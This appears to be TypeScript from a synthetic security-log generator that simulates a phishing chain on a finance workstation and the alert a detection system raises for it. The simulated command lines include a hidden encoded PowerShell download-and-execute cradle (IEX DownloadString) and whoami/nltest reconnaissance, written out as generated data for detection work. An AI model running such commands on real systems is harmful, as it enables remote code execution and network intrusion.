/**
 * Story 2 — a phishing document. Maria Lopez (Finance) opens an invoice attached to an email; Word's macro runs
 * `cmd.exe /c powershell.exe -nop -w hidden -enc <base64>`, which downloads and runs a stager
 * (`IEX (New-Object Net.WebClient).DownloadString('http://…/a.ps1')`) and does a little reconnaissance.
 * Her workday session is otherwise ordinary, so background activity fills it too.
 */

import { encodePowerShell, payloadDomain } from './attack-payloads.js';
import { personNamed } from './host-catalog.js';
import type { StoryStage } from './story-stage.js';
import { powershellImage, sys32 } from './windows-paths.js';

const office = 'C:\\Program Files\\Microsoft Office\\root\\Office16';

/** Plants the phishing chain on WKS-FIN-01 on the workday `dayStart`. */
export function plantEncodedPowerShell(stage: StoryStage, dayStart: number): void {
  const { writer: w, random, catalog } = stage;
  const ids = stage.on('WKS-FIN-01');
  const { host } = ids;
  const victim = personNamed(catalog, 'mlopez').user;
  const logonAt = stage.timeOn(dayStart, 7, 8);
  const session = stage.deskSession(ids, victim, logonAt, '%%1938');
  const outlook = w.spawn(
    ids,
    session.shell,
    session.shell.createdMs + random.int(60_000, 300_000),
    `${office}\\OUTLOOK.EXE`,
    `"${office}\\OUTLOOK.EXE" `,
  );
  let t = stage.timeOn(dayStart, 9, 11);
  const cache = `C:\\Users\\${victim.name}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\${random.hex(8).toUpperCase()}`;
  const document = `${cache}\\Invoice_${random.int(10_000, 99_999)}.docm`;
  const word = w.spawn(ids, outlook, t, `${office}\\WINWORD.EXE`, `"${office}\\WINWORD.EXE" /n "${document}" /o ""`);
  const url = `http://${payloadDomain(random)}/a.ps1`;
  const encoded = encodePowerShell(`IEX (New-Object Net.WebClient).DownloadString('${url}')`);
  t += random.int(20_000, 60_000);
  const cmd = w.spawn(
    ids,
    word,
    t,
    `${sys32}\\cmd.exe`,
    `"C:\\Windows\\System32\\cmd.exe" /c powershell.exe -nop -w hidden -enc ${encoded}`,
  );
  w.conhost(ids, cmd, t + 20);
  t += random.int(200, 900);
  const ps = w.spawn(ids, cmd, t, powershellImage, `powershell.exe  -nop -w hidden -enc ${encoded}`);
  w.conhost(ids, ps, t + 25);
  t += random.int(30_000, 120_000);
  w.spawn(ids, ps, t, `${sys32}\\whoami.exe`, '"C:\\Windows\\system32\\whoami.exe" /all');
  t += random.int(10_000, 60_000);
  w.spawn(ids, ps, t, `${sys32}\\nltest.exe`, '"C:\\Windows\\system32\\nltest.exe" /domain_trusts');
  stage.recordProcessAlert(
    {
      host,
      process: ps,
      parent: cmd,
      sessionStartMs: logonAt,
      displayName: 'Suspicious Powershell Activity Detected',
      severity: 'High',
      description: `Analysis of host data detected a powershell script running on ${host.name} that has features in common with known suspicious scripts. This script could either be legitimate activity, or an indication of a compromised host.`,
      tactics: 'Execution',
      techniques: ['T1059.001', 'T1027'],
      remediation: [
        '1. Escalate the alert to the information security team.',
        '2. Decode the command line and block the download address.',
        '3. Isolate the machine and look for the document that started the chain.',
      ],
      more: (e) => e.url(url),
    },
    {
      name: 'encoded-powershell',
      summary: `${victim.name} opens ${document.slice(cache.length + 1)} from Outlook; WINWORD → cmd → powershell -enc downloading ${url}`,
    },
  );
}
